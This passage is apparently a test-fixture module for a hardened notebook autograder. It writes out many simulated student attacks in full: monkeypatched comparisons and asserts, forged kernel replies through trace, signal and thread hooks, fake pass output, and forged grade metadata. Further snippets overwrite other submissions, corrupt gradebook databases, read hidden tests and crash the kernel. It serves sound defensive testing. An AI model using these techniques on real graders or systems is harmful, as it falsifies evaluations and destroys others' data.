"""What each known attack on the autograder achieves with plain nbgrader and with ours.

Two cohorts, each graded by plain ``nbgrader autograde`` and by the course's pipeline
(:func:`nbcourse.autograde.autograde`: sandboxed kernels, test cells checked outside
them by :mod:`nbcourse.checker`, references withheld):

- the **fixture cohort**, on the tiny fixture assignment (``tests/fixtures``: ``square``
  worth 1 point, ``row_means`` worth 2): honest students (right, blank, wrong, right with
  warnings), then one student per attack. Every cheating student carries the *wrong*
  answers (``square`` returns ``2 * x``, ``row_means`` averages the wrong axis), so an
  honest grader gives each of them 0 of 3; whatever more they get is what the attack won.
  The attacks are written as a student who has read the grader's source would write
  them; those marked *stealth* also avoid every static flag (:mod:`nbcourse.flags`).
- the **delegation cohort**, on ``05_initialization``: each student answers every graded
  function by calling the ``helpers`` reference through one route (the module attribute,
  the notebook's ``H`` alias, ``from ... import``, a reference saved earlier, ``importlib``,
  ``importlib.reload``, the package's source read from disk and exec'd, a copied code
  object, another function or a private one computing the same thing). Their own work is
  blank: 0 of 10.
- the **backprop cohort**, on ``02_backprop``, the issue's example: every answer right but
  ``L_model_backward``, missing, or handed to ``helpers.L_model_backward`` or to the
  private layer steps behind it; the delegators must earn what the missing one earns.

``tests/test_security_attacks.py`` and ``tests/test_security_links.py`` grade them;
``bench/attacks.py`` prints what each attack achieves under both graders. The harness
course (:func:`new_course`) comes from ``tests/nbgrader_harness.py``, imported as
``nbgrader_harness`` (``tests/`` on ``sys.path``: conftest.py and the bench put it there).
"""
from __future__ import annotations

import copy
import hashlib
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from nbcourse.authoring import Mistake, apply_mistake, fill_answers

REPO = Path(__file__).resolve().parents[2]

ASSIGNMENT = "00_fixture"
REAL = "05_initialization"       # the delegation cohort's assignment: the fastest real one to grade
FIXTURE_SOURCE = REPO / "tests" / "fixtures" / "source"
WRONG = (Mistake("square computed as 2x", "square", "return x ** 2", "return 2 * x"),
         Mistake("row means over the wrong axis", "row_means", "axis=1", "axis=0"))
# A per-cell timeout short enough for the infinite-loop student (the course uses 180 s).
CELL_TIMEOUT = 10

# --- the classic attacks: code a student puts in a cell of their own, right after the imports ----

PATCH_COMPARISONS = """
import numpy as np, helpers.testing
def _always_true(*args, **kwargs):
    return True
def _never_fails(*args, **kwargs):
    return None
assert_close = assert_shape = _never_fails
np.allclose = np.array_equal = _always_true
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_equal = _never_fails
try:  # helpers.testing may refuse to be patched
    helpers.testing.assert_close = helpers.testing.assert_shape = _never_fails
except AttributeError:
    pass
"""

EMPTY_LATER_CELLS = """
get_ipython().input_transformers_cleanup.append(lambda lines: [])
"""

SWALLOW_ERRORS = """
def _swallow(shell, etype, value, tb, tb_offset=None):
    return []
get_ipython().set_custom_exc((Exception,), _swallow)
"""

STRIP_ASSERTS = """
import ast
class _NoChecks(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Pass()] if any('assert' in ast.unparse(n) for n in node.body) else node.body
        return node
get_ipython().ast_transformers.append(_NoChecks())
"""

REPATCH_EVERY_CELL = """
import numpy as np, helpers.testing
def _never_fails(*args, **kwargs):
    return None
def _repatch(*args):
    get_ipython().user_ns['assert_close'] = get_ipython().user_ns['assert_shape'] = _never_fails
    np.allclose = lambda *args, **kwargs: True
get_ipython().events.register('pre_run_cell', _repatch)
_repatch()
"""

VANDALIZE_COURSE = """
import glob, os
from pathlib import Path
for folder in [Path.cwd(), *Path.cwd().parents]:
    for path in glob.glob(str(folder / 'source' / '*' / '*.ipynb')):
        try:
            Path(path).write_text('{"vandalized": true}')
        except OSError as error:
            print('cannot write', path, error)
    for path in glob.glob(str(folder / 'submitted' / '*' / '*' / '*.ipynb')):
        if 'vandal' not in path:
            try:
                Path(path).write_text('{"vandalized": true}')
            except OSError as error:
                print('cannot write', path, error)
    for path in glob.glob(str(folder / 'gradebook.db')):
        print('gradebook visible at', path)
"""

FORGE_GRADEBOOKS = """
import glob, sqlite3
from pathlib import Path
# Every gradebook above the kernel: the private copy's, and the run's template that every
# later student's private copy is copied from (nbcourse.grading.TEMPLATE_DB). Raise the
# points of every test cell in them, then wreck the files, so that the students graded
# after this one crash or score against a forged template.
for folder in [Path.cwd(), *Path.cwd().parents]:
    for path in glob.glob(str(folder / '*gradebook*.db')):
        try:
            with sqlite3.connect(path) as db:
                db.execute('UPDATE grade_cells SET max_score = 100')
                db.execute('UPDATE source_cells SET checksum = NULL')
            Path(path).write_bytes(b'not a gradebook')
            print('forged', path)
        except (OSError, sqlite3.Error) as error:
            print('cannot forge', path, error)
"""

READ_HIDDEN_TESTS = """
import glob
from pathlib import Path
for folder in [Path.cwd(), *Path.cwd().parents]:
    for path in [*glob.glob(str(folder / 'source' / '*' / '*.ipynb')), *glob.glob(str(folder / '*.ipynb'))]:
        text = Path(path).read_text()
        if 'BEGIN HIDDEN TESTS' in text:
            print('LEAKED HIDDEN TESTS from', path)
"""

EXIT_KERNEL = """
import os
os._exit(0)
"""

SEGFAULT = """
import ctypes
ctypes.string_at(0)
"""

EAT_MEMORY = """
hoard = []
while True:
    hoard.append(bytearray(256 * 1024 * 1024))
"""

INFINITE_LOOP = """
while True:
    pass
"""

OUTPUT_FLOOD = """
for line in range(60_000):
    print('flood ' * 20)
"""

NETWORK = """
import socket
try:
    socket.create_connection(('1.1.1.1', 53), timeout=3).close()
    print('NETWORK REACHABLE')
except OSError as error:
    print('no network:', error)
"""

# --- attacks on this grader, by a student who has read its source ----------------------------
# The grader runs the test code in its own process and asks the kernel's servant
# (nbcourse.kernel_servant) for the student's values, one silent execute_request each. A
# student owns that kernel: each attack below takes over the conversation a different way
# and makes the kernel answer what the *visible* tests expect (square(3.0) = 9, row_means
# of a 2x3 array = ones((2, 1))), the best anyone without the right answers can say.
# "Stealth" attacks are written so that nbcourse.flags finds nothing in them.

FORGERY_KIT = """
import base64 as _b64, json as _json, sys as _sys
import numpy as _np
_MIME = "application/vnd.nbcourse." + "reply+json"
_SERVANT = "__nbcourse_" + "servant__"
_main = vars(__import__("__main__"))

def _visible_answer(request):
    # the values the visible tests expect, as the servant would encode them
    args = (request.get("args") or {}).get("tuple") or [None]
    if isinstance(args[0], float):
        return 9.0
    ones = _np.ones((2, 1))
    return {"dtype": ones.dtype.str, "shape": [2, 1], "scalar": False,
            "data": _b64.b64encode(ones.tobytes()).decode("ascii")}

def _forged_reply(request_text):
    # a reply claiming success for a call, None for every other request
    try:
        request = _json.loads(request_text)
    except ValueError:
        return None
    if request.get("op") != "call":
        return None
    return _json.dumps({"ok": True, "value": _visible_answer(request)})

def _request_text_of(line):
    # the JSON request inside a line "<servant>.serve('...')"
    import ast as _ast
    start, end = line.find(".serve("), line.rfind(")")
    return _ast.literal_eval(line[start + len(".serve("):end]) if start >= 0 and end > start else ""

_real = _main[_SERVANT]
class _StandIn:
    # answers every call with the visible tests' values; every other request as the real one
    def __getattr__(self, name):
        return getattr(_real, name)
    def serve(self, request_text):
        forged = _forged_reply(request_text)
        if forged is None:
            return _real.serve(request_text)
        _real.publish({_MIME: forged}, metadata={})
    def serve_comm_message(self, channel, message):
        forged = _forged_reply(message["content"]["data"]["request"])
        if forged is None:
            return _real.serve_comm_message(channel, message)
        channel.send({"reply": forged})

# the comm the grader's requests arrive on (the servant opened it before my first cell ran)
_servant_comms = [channel for channel in __import__("comm").get_comm_manager().comms.values()
                  if getattr(channel, "target_name", "") == "nbcourse." + "servant"]
def _rewire(servant):
    # every request on the comm goes to `servant` from now on
    for channel in _servant_comms:
        channel.on_msg(lambda message, channel=channel: servant.serve_comm_message(channel, message))
"""

FORGE_SERVANT = FORGERY_KIT + """
_main[_SERVANT] = _StandIn()
_rewire(_main[_SERVANT])
"""

LYING_OBJECTS = """
import numpy as np
class _AlwaysEqual(np.ndarray):
    # an array that says it equals anything, whichever way it is compared
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)
    def __ne__(self, other):
        return np.zeros(np.shape(other), dtype=bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        if ufunc in (np.equal, np.less_equal, np.isfinite, np.logical_and, np.logical_or):
            return np.True_
        if ufunc in (np.subtract, np.absolute):
            return np.zeros(np.shape(inputs[0]))
        return NotImplemented
class _Claims:
    # not an array at all: a number, a shape, an iterator and a truth of its choosing
    def __init__(self, values, rows):
        self.values, self.shape = values, (rows, 1)
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    __hash__ = object.__hash__
    def __array__(self, dtype=None, copy=None):
        return np.ones(self.shape)
    def __float__(self):
        return 1.0
    def __len__(self):
        return self.shape[0]
    def __bool__(self):
        return True
    def numpy(self):
        return self
"""

LYING_SQUARE = """
_own_square = square
def square(x):
    return np.asarray(_own_square(x)).view(_AlwaysEqual)
"""

LYING_ROW_MEANS = """
_own_row_means = row_means
def row_means(A):
    return _Claims(np.asarray(_own_row_means(A)), len(A))
"""

PATCH_KERNEL = FORGERY_KIT + """
import helpers.testing as _testing
_real_dumps = _json.dumps
def _dumps(obj, *args, **kwargs):
    # the servant encodes its replies with json.dumps: turn every failure into a success
    if isinstance(obj, dict) and "ok" in obj:
        value = obj.get("value")
        obj = {"ok": True, "value": 9.0 if not isinstance(value, dict) else _visible_answer({})}
    return _real_dumps(obj, *args, **kwargs)
vars(_json)["dumps"] = _dumps
for _name in ("allclose", "array_equal", "isclose"):
    vars(_np)[_name] = lambda *args, **kwargs: True
vars(_np.testing)["assert_allclose"] = lambda *args, **kwargs: None
for _name in ("assert_close", "assert_shape", "assert_dict_close", "assert_true"):
    vars(_testing)[_name] = lambda *args, **kwargs: None
_b = vars(__import__("buil" + "tins"))
_b["all"], _b["any"] = (lambda *args: True), (lambda *args: True)
_b["abs"] = lambda x: 0 * x
"""

TRACE_SQUARE = FORGERY_KIT + """
_set_trace = getattr(_sys, "set" + "trace")
_frame_of = getattr(_sys, "_get" + "frame")
_own_square = square
def square(x):
    # trace the servant's frame that called me; rewrite its reply just before it is published
    frame = _frame_of(0)
    while frame is not None and frame.f_code.co_name not in ("serve", "answer"):
        frame = getattr(frame, "f_" + "back")
    if frame is not None:
        request_text = getattr(frame, "f_" + "locals").get("request_text", "")
        def _rewrite(traced, event, arg):
            reply = getattr(traced, "f_" + "locals").get("reply")
            forged = _forged_reply(request_text)
            if event == "line" and isinstance(reply, dict) and "value" in reply and forged:
                reply.clear()
                reply.update(_json.loads(forged))
                traced.f_trace = None
                _set_trace(None)  # gone before anyone looks
            return _rewrite
        frame.f_trace = _rewrite
        _set_trace(lambda *args: None)
    return _own_square(x)
"""

PROFILE_ROW_MEANS = """
_set_profile = getattr(_sys, "set" + "profile")
_own_row_means = row_means
def _on_publish(frame, event, arg):
    # when the servant sends its reply (displayed, or on its comm), rewrite it in the dict it sends
    if event == "call" and frame.f_code.co_name in ("publish_display_data", "publish", "send"):
        data = getattr(frame, "f_" + "locals").get("data")
        for key in (_MIME, "reply"):
            if isinstance(data, dict) and isinstance(data.get(key), str):
                reply = _json.loads(data[key])
                reply["ok"], reply["value"] = True, _visible_answer({"args": {"tuple": [None]}})
                data[key] = _json.dumps(reply)
                _set_profile(None)
def row_means(A):
    _set_profile(_on_publish)
    return _own_row_means(A)
"""

SIGNAL_HOOK = FORGERY_KIT + """
_signals = __import__("sig" + "nal")
_set_profile = getattr(_sys, "set" + "profile")
def _on_publish(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("publish_display_data", "publish", "send"):
        data = getattr(frame, "f_" + "locals").get("data")
        for key in (_MIME, "reply"):
            if isinstance(data, dict) and isinstance(data.get(key), str):
                data[key] = _forged_reply('{"op": "call", "args": {"tuple": [3.0]}}')
def _on_alarm(number, frame):
    # every 2 ms: while the servant is answering, install the rewriting hook
    while frame is not None:
        if frame.f_code.co_filename == "<nbcourse-servant>":
            _set_profile(_on_publish)
            return
        frame = getattr(frame, "f_" + "back")
getattr(_signals, "sig" + "nal")(_signals.SIGALRM, _on_alarm)
getattr(_signals, "set" + "itimer")(_signals.ITIMER_REAL, 0.002, 0.002)
"""

THREAD_PATCH = FORGERY_KIT + """
import linecache as _linecache
import threading as _threading
import time as _time
def _later():
    # waits for the grader's first request, then swaps the servant (by name and on its comm)
    # and patches NumPy;
    # puts the real servant back now and then, and leaves forged source in linecache
    while not _real.objects:
        _time.sleep(0.002)
    for round in range(20_000):
        _main[_SERVANT] = _StandIn() if round % 50 else _real
        _rewire(_main[_SERVANT])
        vars(_np)["allclose"] = lambda *args, **kwargs: True
        _linecache.cache["<test test_square>"] = (11, None, ["print('ok')\\n"], "<test test_square>")
        _time.sleep(0.001)
_threading.Thread(target=_later, daemon=True).start()
"""

TRANSFORMERS = FORGERY_KIT + """
import linecache as _linecache
_shell = __import__("IPython").get_ipython()
def _answer_for_the_grader(lines):
    # the grader's requests arrive as code: replace each call request by a published forged reply
    text = "".join(lines)
    if _SERVANT not in text:
        return lines
    forged = _forged_reply(_request_text_of(text.strip()))
    if forged is None:
        return lines
    return [f"__import__('IPython.display', fromlist=['x']).publish_display_data({{{_MIME!r}: {forged!r}}}, metadata={{}})\\n"]
getattr(_shell, "input_transformers_" + "cleanup").append(_answer_for_the_grader)
getattr(_shell, "input_transformers_" + "post").append(_answer_for_the_grader)
# and the grader's own files, as its tracebacks would show them
for _name in ("<nbcourse-servant>", "<nbcourse-values>", "<test test_square>", "<test test_row_means>"):
    _linecache.cache[_name] = (10, None, ["pass  # checked\\n"], _name)
"""

FAKE_OUTPUT = FORGERY_KIT + """
import os as _os
_display = __import__("IPython.display", fromlist=["x"])
_fake = "test_square: passed (1 of 1 points)\\ntest_row_means: passed (2 of 2 points)\\nVisible tests passed.\\n"
def _claim_success(request):
    # everything a grader could read from the kernel's output, saying the tests passed
    print(_fake)
    getattr(_os, "wri" + "te")(1, _fake.encode())
    getattr(_os, "wri" + "te")(2, _fake.encode())
    _display.publish_display_data({_MIME: _forged_reply(_json.dumps(request)),
                                   "text/plain": _fake}, metadata={})
    for channel in _servant_comms:  # a reply on the grader's comm, before the servant's own
        channel.send({"reply": _forged_reply(_json.dumps(request))})
    _sys.displayhook(3.0)  # an execute_result holding the full score
_own_square = square
def square(x):
    _claim_success({"op": "call", "args": {"tuple": [3.0]}})
    return _own_square(x)
print(_fake)
_display.display({_MIME: _json.dumps({"ok": True, "value": 9.0}), "text/plain": _fake}, raw=True)
3.0
"""

FAKE_OUTPUT_ROW_MEANS = """
_own_row_means = row_means
def row_means(A):
    _claim_success({"op": "call", "args": {"tuple": [None]}})
    return _own_row_means(A)
"""

WARNINGS_SQUARE = """
import os, sys, warnings
import numpy as np
_own_square = square
def square(x):
    warnings.warn("square: this is a harmless warning", UserWarning)
    print("square: a note on stderr", file=sys.stderr)
    os.write(2, b"square: a note written to fd 2\\n")
    return _own_square(x)
"""

WARNINGS_ROW_MEANS = """
_own_row_means = row_means
def row_means(A):
    np.exp(np.array([1000.0]))  # a harmless overflow: NumPy's RuntimeWarning on stderr
    np.float64(1e308) * 10
    return _own_row_means(A)
"""

FAILING_WITH_STDERR = """
import sys
_own_square = square
def square(x):
    print("square: computing 2x, I think", file=sys.stderr)
    return _own_square(x)
"""

STUDENT_CELL_MARK = "a student cell the grader must keep"


@dataclass
class Student:
    """One submission of a cohort and what an honest grader owes it."""

    name: str
    description: str
    notebook: object            # NotebookNode, or raw text for a malformed file, or None: no file
    honest_score: float         # the points its answers earn without any cheating (-1: see the cohort)
    attack: bool = True
    stealth: bool = False       # written so that the static scan (nbcourse.flags) finds nothing
    extra_files: dict = field(default_factory=dict)


def _cell_index(nb, grade_id):
    return next(i for i, cell in enumerate(nb.cells) if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _with_cell(nb, source, *, after="imports", metadata=None):
    """A copy of ``nb`` with a student code cell after the imports (or after a grade id)."""
    nb = copy.deepcopy(nb)
    index = 2 if after == "imports" else _cell_index(nb, after) + 1
    nb.cells.insert(index, nbformat.v4.new_code_cell(source.strip("\n"), metadata=metadata or {}))
    return nb


def _nbgrader_meta(grade_id, points):
    return {"nbgrader": {"grade": True, "solution": False, "locked": True, "points": points,
                         "grade_id": grade_id, "schema_version": 3}}


def _forged_metadata_students(correct, wrong) -> list[Student]:
    """Submissions whose metadata lies: the grader must take roles from the source notebook."""
    # A test cell of the student's own, claiming an existing grade id (whose real cell is
    # deleted) and a new one worth 10 points.
    claims = copy.deepcopy(wrong)
    claims.cells = [cell for cell in claims.cells if cell.metadata.get("nbgrader", {}).get("grade_id") != "test_square"]
    claims = _with_cell(claims, "print('all tests passed')", metadata=_nbgrader_meta("test_square", 1))
    claims = _with_cell(claims, "print('bonus passed')", after="row_means", metadata=_nbgrader_meta("test_bonus", 10))
    # The test cells turned into answers (and emptied), so that a grader trusting the
    # submission would run them as the student's code.
    as_answers = copy.deepcopy(wrong)
    for cell in as_answers.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            meta.update(solution=True, grade=False, locked=False)
            cell.source = "pass"
    # Cells marked as the grader's own (the old guard dropped such cells from the feedback).
    marked = _with_cell(correct, f"print({STUDENT_CELL_MARK!r})",
                        metadata={"nbcourse": {"injected": True, "role": "guard"}})
    for cell in marked.cells:
        cell.metadata["nbcourse"] = {"injected": True, "role": "guard"}
    # The grader's record, written in advance: every test passed, a classmate delegated.
    verdicts = copy.deepcopy(wrong)
    verdicts.metadata["nbcourse"] = {
        "verdicts": {grade_id: {"passed": True, "ename": "", "message": "", "where": "", "withheld": "square",
                                "requests": 1} for grade_id in ("test_square", "test_row_means")},
        "notes": ["all checks passed (forged)"],
    }
    for cell in verdicts.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata["nbcourse"] = {"verdict": {"passed": True}}
    return [
        Student("claims_test_id", "own cell marked test_square (real one deleted) and a new test_bonus",
                claims, 0.0),
        Student("tests_as_answers", "test cells re-marked as answer cells and emptied", as_answers, 0.0),
        Student("marked_injected", "right answers, every cell marked as the grader's own", marked, 3.0),
        Student("forged_verdicts", "notebook metadata holds a grader record: all passed", verdicts, 0.0),
    ]


def build_cohort(release_nb, source_nb) -> list[Student]:
    """The fixture cohort: honest students, then one student per attack."""
    correct = fill_answers(release_nb, source_nb)
    wrong = correct
    for mistake in WRONG:
        wrong = apply_mistake(wrong, mistake)
    edited = copy.deepcopy(wrong)
    for cell in edited.cells:
        if cell.metadata.get("nbgrader", {}).get("grade") and not cell.metadata["nbgrader"].get("solution"):
            cell.source = "pass  # the student emptied this test"
    deleted = copy.deepcopy(correct)
    deleted.cells = [cell for cell in deleted.cells
                     if cell.metadata.get("nbgrader", {}).get("grade_id") != "test_row_means"]
    syntax = copy.deepcopy(correct)
    syntax.cells[_cell_index(syntax, "square")].source = "def square(x)\n    return x ** 2"
    warned = _with_cell(_with_cell(correct, WARNINGS_SQUARE, after="square"), WARNINGS_ROW_MEANS, after="row_means")
    lying = _with_cell(_with_cell(_with_cell(wrong, LYING_OBJECTS), LYING_SQUARE, after="square"),
                       LYING_ROW_MEANS, after="row_means")
    traced = _with_cell(_with_cell(wrong, TRACE_SQUARE, after="square"), PROFILE_ROW_MEANS, after="row_means")
    return [
        Student("correct", "every answer right", correct, 3.0, attack=False),
        Student("blank", "the release untouched", copy.deepcopy(release_nb), 0.0, attack=False),
        Student("wrong", "both answers wrong", wrong, 0.0, attack=False),
        Student("wrong_stderr", "both answers wrong, and a note on stderr",
                _with_cell(wrong, FAILING_WITH_STDERR, after="square"), 0.0, attack=False),
        Student("warnings", "right answers that warn: warnings.warn, NumPy overflow, stderr, fd 2",
                warned, 3.0, attack=False),
        Student("patch_numpy", "replaces np.allclose & co. and the test helpers", _with_cell(wrong, PATCH_COMPARISONS), 0.0),
        Student("empty_cells", "input transformer empties every later cell", _with_cell(wrong, EMPTY_LATER_CELLS), 0.0),
        Student("swallow", "set_custom_exc swallows every exception", _with_cell(wrong, SWALLOW_ERRORS), 0.0),
        Student("strip_asserts", "AST transformer drops the checks", _with_cell(wrong, STRIP_ASSERTS), 0.0),
        Student("repatch", "pre_run_cell callback re-patches the helpers before each cell",
                _with_cell(wrong, REPATCH_EVERY_CELL), 0.0),
        Student("forge_servant", "replaces the grader's servant: every call 'returns' the visible answers",
                _with_cell(wrong, FORGE_SERVANT), 0.0, stealth=True),
        Student("patch_kernel", "patches json.dumps (the replies), NumPy, helpers.testing, builtins",
                _with_cell(wrong, PATCH_KERNEL), 0.0, stealth=True),
        Student("lying_objects", "answers whose __eq__, __array_ufunc__, __float__, __len__, __bool__ lie",
                lying, 0.0, stealth=True),
        Student("trace_hook", "settrace on the servant's frame / setprofile on publish rewrite the replies, then vanish",
                traced, 0.0, stealth=True),
        Student("signal_hook", "SIGALRM every 2 ms installs a reply-rewriting profile hook while the servant runs",
                _with_cell(wrong, SIGNAL_HOOK), 0.0, stealth=True),
        Student("thread_patch", "background thread swaps the servant (and back) and patches NumPy, linecache",
                _with_cell(wrong, THREAD_PATCH), 0.0, stealth=True),
        Student("transformers", "input transformers answer the grader's requests; forged linecache",
                _with_cell(wrong, TRANSFORMERS), 0.0, stealth=True),
        Student("fake_output", "fake verdicts on stdout, fd 1, fd 2, as reply display_data and comm message, as execute_result",
                _with_cell(_with_cell(wrong, FAKE_OUTPUT, after="square"), FAKE_OUTPUT_ROW_MEANS, after="row_means"),
                0.0, stealth=True),
        *_forged_metadata_students(correct, wrong),
        Student("vandal", "overwrites source/ and other students' submissions", _with_cell(wrong, VANDALIZE_COURSE), 0.0),
        Student("forge_gradebooks", "raises every test's points in, then wrecks, each gradebook it finds: "
                "its own private one and the run's template the students after it are graded from",
                _with_cell(wrong, FORGE_GRADEBOOKS), 0.0),
        Student("reader", "reads the hidden tests from source/, opens a network connection",
                _with_cell(wrong, READ_HIDDEN_TESTS + NETWORK), 0.0),
        Student("os_exit", "correct, then os._exit(0) after the first test",
                _with_cell(correct, EXIT_KERNEL, after="test_square"), 1.0),
        Student("segfault", "correct, then a segfault through ctypes after the first test",
                _with_cell(correct, SEGFAULT, after="test_square"), 1.0),
        Student("memory", "correct, and a cell that eats all memory", _with_cell(correct, EAT_MEMORY), 3.0),
        Student("loop", "correct, and an infinite loop", _with_cell(correct, INFINITE_LOOP), 3.0),
        Student("flood", "correct, and 7 MB of output", _with_cell(correct, OUTPUT_FLOOD), 3.0),
        Student("syntax", "a syntax error in the first answer", syntax, 2.0),
        Student("edited_tests", "wrong answers, test cells emptied", edited, 0.0),
        Student("deleted_test", "correct, the second test cell deleted", deleted, 3.0),
        Student("shadow_numpy", "wrong answers and a numpy.py next to the notebook", wrong, 0.0,
                extra_files={"numpy.py": "def allclose(*a, **k):\n    return True\n"}),
        Student("malformed", "the notebook file is not JSON", '{"cells": [', 0.0),
        Student("missing", "no notebook handed in", None, 0.0),
    ]


# --- the delegation cohort (a real assignment) ---------------------------------------------

def _graded_functions(source_nb) -> dict[str, tuple[str, str]]:
    """answer grade id -> (function name, helpers module defining it) for each answer cell
    that defines a function ``helpers`` also implements."""
    import ast

    import helpers

    found = {}
    for cell in source_nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type != "code" or not meta.get("solution"):
            continue
        for node in ast.parse(cell.source).body:
            if isinstance(node, ast.FunctionDef) and callable(getattr(helpers, node.name, None)):
                found[meta["grade_id"]] = (node.name, getattr(helpers, node.name).__module__)
    return found


# Each route: (name, description, code run once after the imports, code of one answer).
# ``{f}`` is the function's name, ``{m}`` the helpers module that defines it.
ROUTES = [
    ("via_module", "helpers.f", "import helpers",
     "def {f}(*args, **kwargs):\n    return helpers.{f}(*args, **kwargs)"),
    ("via_alias", "H.f, the notebook's own alias", "",
     "def {f}(*args, **kwargs):\n    return H.{f}(*args, **kwargs)"),
    ("via_from_import", "from helpers.<module> import f", "",
     "from {m} import {f} as _reference_{f}\n\ndef {f}(*args, **kwargs):\n    return _reference_{f}(*args, **kwargs)"),
    ("via_saved", "a reference saved in an earlier cell",
     "_saved = {{name: getattr(H, name) for name in dir(H) if not name.startswith('_')}}",
     "def {f}(*args, **kwargs):\n    return _saved['{f}'](*args, **kwargs)"),
    ("via_importlib", "importlib.import_module('helpers.<module>').f", "import importlib",
     "def {f}(*args, **kwargs):\n    return importlib.import_module('{m}').{f}(*args, **kwargs)"),
    ("via_reload", "importlib.reload of the module, then f", "import importlib",
     "def {f}(*args, **kwargs):\n    fresh = importlib.reload(importlib.import_module('{m}'))\n"
     "    return getattr(fresh, '{f}')(*args, **kwargs)"),
    ("via_source", "every helpers .py found on sys.path read and exec'd",
     "import glob, os, sys\n"
     "def _from_source(module, name):\n"
     "    for entry in sys.path:\n"
     "        for path in glob.glob(os.path.join(entry or '.', *module.split('.')) + '.py'):\n"
     "            namespace = {{'__name__': module, '__package__': 'helpers'}}\n"
     "            exec(compile(open(path).read(), path, 'exec'), namespace)\n"
     "            return namespace[name]\n"
     "    raise LookupError(module)",
     "def {f}(*args, **kwargs):\n    return _from_source('{m}', '{f}')(*args, **kwargs)"),
    ("via_code_copy", "a new function made of f's code object", "import importlib, inspect, types",
     "_module_{f} = importlib.import_module('{m}')\n"
     "_ref_{f} = inspect.unwrap(getattr(_module_{f}, '{f}'))  # past any wrapper around it\n"
     "{f} = types.FunctionType(getattr(_ref_{f}, '__co' + 'de__'), vars(_module_{f}), '{f}',\n"
     "                         getattr(_ref_{f}, '__defaults__'))"),
]

# 05's own way round its names: the initializer's private factor. (A named shortcut such as
# initialize_parameters_he is withheld too, as an EQUIVALENT; one test cell grades the
# initializer, and a test cell reports the first withheld reference it met, so the cohort
# takes one route here and tests/test_security_attacks.py's lab session takes the other.)
OTHER_NAMES_05 = {
    "initialize_parameters": "def initialize_parameters(layer_dims, method='he', seed=None, scale=0.01):\n"
                             "    rng, parameters = np.random.default_rng(seed), {}\n"
                             "    for l in range(1, len(layer_dims)):\n"
                             "        factor = H.nn._init_factor(method, layer_dims[l - 1], layer_dims[l], scale)\n"
                             "        parameters[f'W{l}'] = rng.standard_normal((layer_dims[l], layer_dims[l - 1])) * factor\n"
                             "        parameters[f'b{l}'] = np.zeros((layer_dims[l], 1))\n"
                             "    return parameters",
}


# A student's object whose iteration and indexing disagree: the visible test's inputs get
# the visible answers (printed in the notebook); other inputs get an object that iterates
# as empty and, indexed, says X_test_n = X_test, mu = 0, sigma = 1. Only X_train_n is
# computed (the test set is never normalized): honestly, this answer earns nothing.
SHORT_ITERATION_05 = '''
class _Normalized:
    def __init__(self, X_train_n, X_test):
        n = X_test.shape[0]
        self.items = (X_train_n, X_test, np.zeros((n, 1)), np.ones((n, 1)))
    def __iter__(self):
        return iter(())
    def __getitem__(self, index):
        return self.items[index]
    def __len__(self):
        return 4

def normalize_inputs(X_train, X_test):
    X_train_n = (X_train - X_train.mean(axis=1, keepdims=True)) / X_train.std(axis=1, keepdims=True)
    if X_train.shape == (3, 4):  # the visible test's case: its expected values are in the notebook
        return (X_train_n, np.array([[2.2361, 4.0249], [2.2361, 4.0249], [0.0, 2.0]]),
                np.array([[2.5], [25.0], [3.0]]), np.array([[np.sqrt(1.25)], [np.sqrt(125.0)], [1.0]]))
    return _Normalized(X_train_n, X_test)
'''


def build_delegation_cohort(release_nb, source_nb) -> list[Student]:
    """The delegation cohort of :data:`REAL`: the blank and right notebooks, then one
    student per route, every graded function delegated that way (their own work: blank)."""
    functions = _graded_functions(source_nb)
    students = [Student("correct", "every answer right", fill_answers(release_nb, source_nb), 13.0, attack=False),
                Student("blank", "the release untouched", copy.deepcopy(release_nb), 0.0, attack=False)]
    for name, description, setup, template in ROUTES:
        nb = copy.deepcopy(release_nb)
        for grade_id, (function, module) in functions.items():
            nb.cells[_cell_index(nb, grade_id)].source = template.format(f=function, m=module)
        if setup:
            nb = _with_cell(nb, setup.format())
        students.append(Student(name, f"every answer delegates: {description}", nb, 0.0))
    other = copy.deepcopy(release_nb)
    for grade_id, (function, _) in functions.items():
        if function in OTHER_NAMES_05:
            other.cells[_cell_index(other, grade_id)].source = OTHER_NAMES_05[function]
    students.append(Student("via_other_names", "the private H.nn._init_factor",
                            other, 0.0))
    short = copy.deepcopy(release_nb)
    short.cells[_cell_index(short, "normalize_inputs")].source = SHORT_ITERATION_05.strip("\n")
    students.append(Student("short_iteration", "normalize_inputs returns an object that iterates as empty "
                            "but indexes as the visible answers' pattern", short, 0.0))
    return students


BACKPROP = "02_backprop"      # the example: L_model_backward handed to the reference
PRIVATE_BACKWARD_02 = """
import helpers.nn as _nn

def L_model_backward(AL, Y, caches):
    # the reference's own private steps, one layer at a time
    grads = {}
    L = len(caches)
    grads[f"dA{L - 1}"], grads[f"dW{L}"], grads[f"db{L}"] = _nn._output_layer_backward(AL, Y, caches[-1], "sigmoid")
    for l in range(L - 1, 0, -1):
        grads[f"dA{l - 1}"], grads[f"dW{l}"], grads[f"db{l}"] = _nn._linear_activation_backward(
            grads[f"dA{l}"], caches[l - 1], "relu")
    return grads
"""


def build_backprop_cohort(release_nb, source_nb) -> list[Student]:
    """02's cohort: every answer right but ``L_model_backward``, which is missing (what the
    others' own work is worth), or delegated to ``helpers.L_model_backward`` or to the
    private functions behind it. ``honest_score`` is unknown here: compare with "missing_backward"."""
    correct = fill_answers(release_nb, source_nb)

    def with_backward(source):
        nb = copy.deepcopy(correct)
        nb.cells[_cell_index(nb, "L_model_backward")].source = source.strip("\n")
        return nb

    return [
        Student("missing_backward", "every answer right but L_model_backward (raises NotImplementedError)",
                with_backward("def L_model_backward(AL, Y, caches):\n    raise NotImplementedError"), -1, attack=False),
        Student("via_module_backward", "L_model_backward returns helpers.L_model_backward(...)",
                with_backward("import helpers\n\ndef L_model_backward(*args, **kwargs):\n"
